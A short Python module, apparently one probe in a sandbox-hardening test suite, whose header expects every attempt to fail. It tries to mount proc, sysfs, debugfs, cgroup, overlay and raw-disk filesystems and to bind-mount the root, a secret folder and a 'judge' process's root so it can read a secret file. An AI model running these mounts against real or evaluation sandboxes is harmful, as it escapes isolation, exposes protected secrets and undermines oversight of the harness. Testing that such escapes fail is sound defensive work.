# attack: Mounts file systems over its folder: memory, proc, sysfs, binds, overlays, cgroups, queues, disks.
# hurts: Gets fresh views of the machine that nobody has masked.
# never: mounted
# ends: returns
import os

from _raw import attempt, call, read_file

BIND, RECURSIVE = 4096, 16384
DETACH = 2
KINDS = (
    "tmpfs",
    "proc",
    "sysfs",
    "devtmpfs",
    "devpts",
    "mqueue",
    "cgroup2",
    "cgroup",
    "debugfs",
    "securityfs",
    "binfmt_misc",
    "ramfs",
)


def attack(target):
    os.makedirs("place", exist_ok=True)
    place, tried = os.path.abspath("place"), []
    for kind in KINDS:
        tried += mounted(kind, kind, place, kind, 0, "")
    for source in ("/", "/proc", "/sys", target["secret_folder"], f"/proc/{target['judge_pid']}/root"):
        tried += mounted(source, source, place, None, BIND | RECURSIVE, None)
    tried += mounted("overlay", "overlay", place, "overlay", 0, f"lowerdir=/usr,upperdir={place},workdir={os.getcwd()}")
    tried += mounted("disk", "/dev/vda", place, "ext4", 1, "")
    return [*tried, attempt("read", read_file, f"{place}/{os.path.basename(target['secret_file'])}")]


def mounted(name, source, place, kind, flags, options):
    _, error = call("mount", source, place, kind, flags, options)
    if error:
        return [f"{name}: {error}"]
    seen = attempt("seen", os.listdir, place)
    call("umount2", place, DETACH)
    return [f"{name}: mounted, {seen}"]
